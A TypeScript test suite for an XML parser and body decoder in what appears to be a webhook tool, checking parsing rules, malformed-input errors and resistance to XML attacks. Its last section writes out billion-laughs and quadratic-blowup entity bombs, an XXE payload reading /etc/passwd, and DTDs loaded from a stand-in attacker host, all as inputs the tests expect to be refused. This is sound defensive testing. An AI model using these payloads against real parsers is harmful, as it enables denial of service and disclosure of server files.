/* eslint @typescript-eslint/no-floating-promises: ["error", { "allowForKnownSafeCalls":
   [{ "from": "package", "package": "node:test", "name": ["describe", "it"] }] }] --
   node:test's describe/it return promises the runner itself awaits. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { HookflowError } from '../../errors.js';
import { decodeBody } from './decode-body.js';
import { parseXml } from './parse-xml.js';

function errorOf(run: () => unknown): HookflowError {
  try {
    run();
  } catch (e) {
    assert.ok(e instanceof HookflowError, `expected a HookflowError, got ${String(e)}`);
    return e;
  }
  assert.fail('expected an error');
}

describe('parseXml: the object reads like the document', () => {
  it('makes the root element the top key', () => {
    assert.deepEqual(parseXml('<order><id>1</id></order>'), { order: { id: '1' } });
  });

  it('keeps text as strings, never coercing numbers or booleans', () => {
    assert.deepEqual(parseXml('<r><zip>01234</zip><n>1.50</n><ok>true</ok></r>'), {
      r: { zip: '01234', n: '1.50', ok: 'true' },
    });
  });

  it('turns attributes into @name and puts text beside them under #text', () => {
    assert.deepEqual(parseXml('<price currency="EUR" net="yes">9.90</price>'), {
      price: { '@currency': 'EUR', '@net': 'yes', '#text': '9.90' },
    });
  });

  it('makes repeated sibling elements a list in document order', () => {
    assert.deepEqual(parseXml('<cart><item>a</item><note>n</note><item>b</item></cart>'), {
      cart: { item: ['a', 'b'], note: 'n' },
    });
  });

  it('makes an empty element an empty string', () => {
    assert.deepEqual(parseXml('<r><a/><b></b><c>   </c></r>'), { r: { a: '', b: '', c: '' } });
  });

  it('keeps an element with only attributes as an object without #text', () => {
    assert.deepEqual(parseXml('<r><link href="/x" rel="self"/></r>'), {
      r: { link: { '@href': '/x', '@rel': 'self' } },
    });
  });

  it('drops namespace prefixes from elements and attributes, and xmlns attributes', () => {
    const xml =
      '<a:root xmlns="urn:d" xmlns:a="urn:a" xmlns:xsi="urn:xsi" a:id="5">' +
      '<a:child xsi:type="T">x</a:child></a:root>';
    assert.deepEqual(parseXml(xml), {
      root: { '@id': '5', child: { '@type': 'T', '#text': 'x' } },
    });
  });

  it('takes CDATA as text, verbatim: not trimmed, references not decoded', () => {
    assert.deepEqual(parseXml('<r><html><![CDATA[ <b>Tom &amp; Jerry</b> ]]></html></r>'), {
      r: { html: ' <b>Tom &amp; Jerry</b> ' },
    });
  });

  it('joins text and CDATA in document order', () => {
    assert.deepEqual(parseXml('<r>a <![CDATA[<b>]]> c</r>'), { r: 'a<b>c' });
  });

  it('ignores the XML declaration, processing instructions and comments', () => {
    const xml =
      '<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet href="s.xsl"?>\n' +
      '<!-- before --><r><!-- inside <!DOCTYPE is fine here --><a>1</a></r><!-- after -->\n';
    assert.deepEqual(parseXml(xml), { r: { a: '1' } });
  });

  it('decodes the five predefined entities and numeric references, in text and attributes', () => {
    assert.deepEqual(
      parseXml(`<r t="a &quot;b&quot; &#x263A;">&lt;&amp;&gt;&apos;&#65;&#x1F680;</r>`),
      {
        r: { '@t': 'a "b" ☺', '#text': `<&>'A🚀` },
      },
    );
  });

  it('decodes once: &amp;lt; is the text &lt;', () => {
    assert.deepEqual(parseXml('<r>&amp;lt;</r>'), { r: '&lt;' });
  });

  it('leaves other references as written: &nbsp;, undefined names, non-characters', () => {
    assert.deepEqual(parseXml('<r>&nbsp;&custom;&#0;&#xD800;&#99999999;</r>'), {
      r: '&nbsp;&custom;&#0;&#xD800;&#99999999;',
    });
  });

  it('keeps element names that shadow Object.prototype as plain data', () => {
    const parsed = parseXml('<r><toString>1</toString></r>') as Record<string, unknown>;
    assert.equal(Object.getPrototypeOf(parsed), Object.prototype);
    assert.deepEqual(parsed, { r: { __toString: '1' } });
  });

  it('reads a Salesforce outbound message (SOAP) the way a user would', () => {
    const soap = `<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>00D000000000062EAA</OrganizationId>
   <ActionId>04k000000000001AAA</ActionId>
   <SessionId xsi:nil="true"/>
   <EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/59.0/00D000000000062</EnterpriseUrl>
   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/59.0/00D000000000062</PartnerUrl>
   <Notification>
    <Id>04l000000000001AAA</Id>
    <sObject xsi:type="sf:Opportunity" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>006000000000001AAA</sf:Id>
     <sf:Amount>1500.0</sf:Amount>
     <sf:Name>Acme &amp; Co renewal</sf:Name>
    </sObject>
   </Notification>
   <Notification>
    <Id>04l000000000002AAA</Id>
    <sObject xsi:type="sf:Opportunity" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>006000000000002AAA</sf:Id>
     <sf:Amount>250.0</sf:Amount>
     <sf:Name>Globex pilot</sf:Name>
    </sObject>
   </Notification>
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>`;
    assert.deepEqual(parseXml(soap), {
      Envelope: {
        Body: {
          notifications: {
            OrganizationId: '00D000000000062EAA',
            ActionId: '04k000000000001AAA',
            SessionId: { '@nil': 'true' },
            EnterpriseUrl: 'https://acme.my.salesforce.com/services/Soap/c/59.0/00D000000000062',
            PartnerUrl: 'https://acme.my.salesforce.com/services/Soap/u/59.0/00D000000000062',
            Notification: [
              {
                Id: '04l000000000001AAA',
                sObject: {
                  '@type': 'sf:Opportunity',
                  Id: '006000000000001AAA',
                  Amount: '1500.0',
                  Name: 'Acme & Co renewal',
                },
              },
              {
                Id: '04l000000000002AAA',
                sObject: {
                  '@type': 'sf:Opportunity',
                  Id: '006000000000002AAA',
                  Amount: '250.0',
                  Name: 'Globex pilot',
                },
              },
            ],
          },
        },
      },
    });
  });
});

describe('parseXml: malformed documents are invalid_body', () => {
  const malformed: Array<[string, RegExp]> = [
    ['<a><b></a>', /closing tag/i],
    ['<a>', /unclosed/i],
    ['<a>1</a>trailing', /extra text/i],
    ['<a x=1/>', /line 1/],
    ['<a b/>', /boolean attribute/],
    ['<a>AT&T</a>', /&/],
    ['<a><!-- never closed</a>', /never closed/],
  ];
  for (const [xml, reason] of malformed) {
    it(`refuses ${xml}`, () => {
      const error = errorOf(() => parseXml(xml));
      assert.equal(error.code, 'invalid_body');
      assert.match(error.message, /^body is not valid XML: /);
      assert.match(error.message, reason);
    });
  }

  it('refuses more than one root element', () => {
    assert.match(errorOf(() => parseXml('<a/><b/>')).message, /2 root elements/);
  });

  it('accepts 100 levels of nesting and refuses 101', () => {
    const nested = (depth: number): string => '<e>'.repeat(depth) + '</e>'.repeat(depth);
    assert.doesNotThrow(() => parseXml(nested(100)));
    assert.match(errorOf(() => parseXml(nested(101))).message, /more than 100 levels/);
  });

  it('counts a self-closing element as one level, and comments or CDATA as none', () => {
    const open = '<e a="/">'.repeat(99);
    const close = '</e>'.repeat(99);
    assert.doesNotThrow(() => parseXml(`${open}<!-- <x> --><![CDATA[<y>]]><leaf/>${close}`));
    assert.throws(() => parseXml(`${open}<e><leaf/></e>${close}`), /more than 100 levels/);
  });

  it('refuses a million levels of nesting quickly', () => {
    const started = performance.now();
    const error = errorOf(() => parseXml('<e>'.repeat(1_000_000)));
    assert.equal(error.code, 'body_too_deep');
    assert.ok(performance.now() - started < 1000);
  });

  it('keeps an error message short when the parser quotes the input', () => {
    const error = errorOf(() => parseXml(`<a>${'<'.repeat(100_000)}</a>`));
    assert.ok(error.message.length < 500, `message is ${error.message.length} characters`);
  });
});

describe('XML bombs are refused (or inert) in well under a second', () => {
  async function refusedQuickly(xml: string): Promise<HookflowError> {
    const started = performance.now();
    let error: unknown;
    try {
      await decodeBody(Buffer.from(xml), 'application/xml', 'auto');
    } catch (e) {
      error = e;
    }
    const elapsed = performance.now() - started;
    assert.ok(elapsed < 1000, `took ${elapsed.toFixed(0)} ms`);
    assert.ok(error instanceof HookflowError, `expected a HookflowError, got ${String(error)}`);
    assert.equal(error.code, 'invalid_body');
    assert.match(error.message, /DTDs are not allowed/);
    return error;
  }

  it('refuses billion laughs (nested entities)', async () => {
    const levels = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) {
      levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    }
    await refusedQuickly(
      `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${levels.join('\n')}\n]>\n<lolz>&lol9;</lolz>`,
    );
  });

  it('refuses a quadratic blow-up (one large entity referenced many times)', async () => {
    const big = 'a'.repeat(50_000);
    await refusedQuickly(
      `<!DOCTYPE kaboom [<!ENTITY a "${big}">]><kaboom>${'&a;'.repeat(50_000)}</kaboom>`,
    );
  });

  it('refuses an external entity (XXE)', async () => {
    const error = await refusedQuickly(
      '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    );
    assert.doesNotMatch(error.message, /root:/);
  });

  it('refuses parameter entities, internal and external', async () => {
    await refusedQuickly(`<!DOCTYPE r [<!ENTITY % p "<!ENTITY x 'boom'>"> %p;]><r>&x;</r>`);
    await refusedQuickly(
      '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><r>&x;</r>',
    );
  });

  it('refuses an external DTD and any other markup declaration', async () => {
    await refusedQuickly('<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>');
    await refusedQuickly('<!doctype r><r/>');
    await refusedQuickly('<r><!ENTITY x "y"></r>');
  });

  it('finds a DOCTYPE that hides behind a comment opener inside an attribute value', async () => {
    await refusedQuickly('<a x="<!--"><!DOCTYPE a [<!ENTITY e "boom">]>--></a>');
  });

  it('leaves entity references without a DTD inert', () => {
    assert.deepEqual(parseXml('<lolz>&lol9;</lolz>'), { lolz: '&lol9;' });
  });

  it('decodes a document of 30,000 numeric character references fast', async () => {
    // ~150 KB costs ~100 ms (a few µs a reference, mostly the validator); expansion bugs such as
    // CVE-2026-33036 made this kind of document take seconds. Sized to pass on a loaded machine.
    const [inText, inAttribute] = [25_000, 5_000];
    const xml = `<r>${'&#65;'.repeat(inText)}<x a="${'&#x42;'.repeat(inAttribute)}"/></r>`;
    const started = performance.now();
    const decoded = await decodeBody(Buffer.from(xml), 'application/xml', 'auto');
    const elapsed = performance.now() - started;
    assert.ok(elapsed < 1000, `took ${elapsed.toFixed(0)} ms`);
    assert.deepEqual(decoded.body, {
      r: { x: { '@a': 'B'.repeat(inAttribute) }, '#text': 'A'.repeat(inText) },
    });
  });
});
